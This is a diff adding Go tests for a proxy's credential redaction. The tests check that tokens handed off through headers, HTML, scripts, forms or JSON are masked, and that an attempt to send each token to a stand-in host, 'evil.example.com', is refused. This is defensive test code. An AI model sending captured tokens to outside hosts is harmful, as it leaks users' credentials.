@@ -2,6 +2,7 @@ package proxy
 
 import (
 	"context"
+	"fmt"
 	"net/http"
 	"net/url"
 	"strings"
@@ -108,4 +109,120 @@ func TestHandoffLeavesOrdinaryRedirects(t *testing.T) {
 	loc := resp.Header.Get("Location")
 	assert.False(t, strings.Contains(loc, Marker), loc)
 	assert.Contains(t, loc, "from=2026-11-01")
+}
+
+// Hand-offs in any form are the proxy's: a ticket or token in any header
+// (Refresh, Location on a 201 or unparseable, Content-Location, Link, a
+// header named for a token), any Location form (a ticket in the path, a
+// bare query, a fragment route), a page's meta refresh, a script's
+// navigation, an auto-posting form's hidden inputs, or a JSON field named
+// for a token, is registered as a credential before the step sees the
+// answer: the step sees the marker, and cannot send the value anywhere.
+func TestHandoffsInAnyForm(t *testing.T) {
+	tk := func(i int) string { return fmt.Sprintf("HandOff%02d-9f8e7d6c5b4a3210", i) }
+	type answer struct {
+		status int
+		header map[string]string
+		ctype  string
+		body   string
+	}
+	answers := map[string]answer{
+		"/refresh":   {200, map[string]string{"Refresh": "0; url=https://elsewhere.example/h5?token=" + tk(1)}, "", ""},
+		"/created":   {201, map[string]string{"Location": "/x?ticket=" + tk(2)}, "", ""},
+		"/badloc":    {302, map[string]string{"Location": "http://[::1/%zz?token=" + tk(3)}, "", ""},
+		"/path":      {302, map[string]string{"Location": "https://elsewhere.example/cas/" + tk(4) + "/next"}, "", ""},
+		"/bare":      {302, map[string]string{"Location": "https://elsewhere.example/land?" + tk(5)}, "", ""},
+		"/frag":      {302, map[string]string{"Location": "https://elsewhere.example/app#/x?token=" + tk(6) + "&page=2"}, "", ""},
+		"/clocation": {200, map[string]string{"Content-Location": "/y?access_token=" + tk(7)}, "", ""},
+		"/link":      {200, map[string]string{"Link": `<https://elsewhere.example/n?ticket=` + tk(8) + `>; rel="next"`}, "", ""},
+		"/xhdr":      {200, map[string]string{"X-Auth-Token": tk(9)}, "", ""},
+		"/status":    {303, map[string]string{"Location": "weird:opaque?jwt=" + tk(10)}, "", ""},
+		"/meta": {200, nil, "text/html", `<html><head><META HTTP-EQUIV="Refresh" CONTENT="0;URL=https://elsewhere.example/go?tk=` + tk(11) +
+			`"></head><body>` + tk(11) + `</body></html>`},
+		"/script": {200, nil, "text/html", `<script>location.href = "https://e.example/a?token=` + tk(12) + `";
+			window.location='https://e.example/b?x=` + tk(13) + `'; location.replace("\/c?ticket=` + tk(14) + `")</script>`},
+		"/form": {200, nil, "text/html", `<form id="f" method="post" action="https://card.example/cassyno/index?s=` + tk(15) + `">` +
+			`<input type="hidden" name="ssoticketid" value="` + tk(16) + `"><input type=hidden name=errorcode value=0></form>` +
+			`<script>document.getElementById('f').submit()</script>`},
+		"/json":  {200, nil, "application/json", `{"success":true,"token":"` + tk(17) + `","data":{"access_token":"` + tk(18) + `","page":"1"}}`},
+		"/jsonw": {200, nil, "text/plain", `{"success":true,"JWT": "` + tk(19) + `"}`},
+	}
+	portal := newRecorder(t, func(w http.ResponseWriter, r *http.Request) {
+		a := answers[r.URL.Path]
+		for k, v := range a.header {
+			w.Header()[k] = []string{v}
+		}
+		if a.ctype != "" {
+			w.Header().Set("Content-Type", a.ctype)
+		}
+		w.WriteHeader(a.status)
+		w.Write([]byte(a.body + "\nechoed: " + tk(indexOf(r.URL.Path))))
+	})
+	attacker := newRecorder(t, echo)
+	p := testProxy(t, nil, portal, nil, Limits{}, nil)
+	p.resolve["evil.example.com:80"] = attacker.Listener.Addr().String()
+	acc := access("portal")
+	acc.Web = []manifest.Origin{webOrigin("http", "evil.example.com", 80)}
+	ctx := context.Background()
+	for path := range answers {
+		call := p.NewCall("demo", acc)
+		resp, err := call.Do(ctx, &Request{Service: "portal", Path: path})
+		require.NoError(t, err, path)
+		seen := resp.URL + "\n" + string(resp.Body)
+		for k, vs := range resp.Header {
+			seen += "\n" + k + ": " + strings.Join(vs, ",")
+		}
+		for i := 1; i <= 19; i++ {
+			assert.NotContains(t, seen, tk(i), path)
+		}
+		assert.Contains(t, seen, Marker, path)
+		n := indexOf(path)
+		assert.True(t, p.red.knows(tk(n)), "registered as sent: %s", path)
+		_, err = call.Do(ctx, &Request{URL: "http://evil.example.com/c", Query: url.Values{"t": {tk(n)}}})
+		require.ErrorIs(t, err, ErrRefused, path)
+	}
+	assert.Equal(t, int64(0), attacker.n.Load(), "no hand-off reached the attacker")
+	// Short values beside them stay readable.
+	resp, err := p.NewCall("demo", acc).Do(ctx, &Request{Service: "portal", Path: "/json"})
+	require.NoError(t, err)
+	assert.Contains(t, string(resp.Body), `"page":"1"`)
+	resp, err = p.NewCall("demo", acc).Do(ctx, &Request{Service: "portal", Path: "/form"})
+	require.NoError(t, err)
+	assert.Contains(t, string(resp.Body), `value=0`)
+	resp, err = p.NewCall("demo", acc).Do(ctx, &Request{Service: "portal", Path: "/frag"})
+	require.NoError(t, err)
+	assert.Contains(t, resp.Header.Get("Location"), "page=2")
+}
+
+// indexOf maps a test path of TestHandoffsInAnyForm to the ticket its
+// answer echoes in the body.
+func indexOf(path string) int {
+	return map[string]int{"/refresh": 1, "/created": 2, "/badloc": 3, "/path": 4, "/bare": 5, "/frag": 6, "/clocation": 7,
+		"/link": 8, "/xhdr": 9, "/status": 10, "/meta": 11, "/script": 12, "/form": 16, "/json": 17, "/jsonw": 19}[path]
+}
+
+// Values the step chose are never registered as credentials: a campus
+// redirect whose Location repeats the step's own query (or path) must not
+// turn the step's value into a "credential", whose marker would then
+// answer the step's questions.
+func TestStepValuesAreNotHandoffs(t *testing.T) {
+	const (
+		guess = "stepChosenGuess-0123456789abcdef"
+		seg   = "StepSegment0123456789abcdef"
+	)
+	portal := newRecorder(t, func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("X-Echo", "q="+r.URL.Query().Get("q"))
+		http.Redirect(w, r, "https://elsewhere.example/results?q="+url.QueryEscape(r.URL.Query().Get("q"))+
+			"&token="+r.URL.Query().Get("q")+"&p="+strings.TrimPrefix(r.URL.Path, "/a/"), http.StatusFound)
+	})
+	p := testProxy(t, nil, portal, nil, Limits{}, nil)
+	call := p.NewCall("demo", access("portal"))
+	resp, err := call.Do(context.Background(), &Request{Service: "portal", Path: "/a/" + seg, Query: url.Values{"q": {guess}}})
+	require.NoError(t, err)
+	assert.Contains(t, resp.Header.Get("Location"), "q="+guess)
+	assert.Contains(t, resp.Header.Get("Location"), "p="+seg)
+	assert.Equal(t, "q="+guess, resp.Header.Get("X-Echo"))
+	assert.Equal(t, guess, call.Redact(guess), "the step's own value is no credential")
+	assert.Equal(t, seg, call.Redact(seg))
+	assert.False(t, p.red.knows(guess))
 }
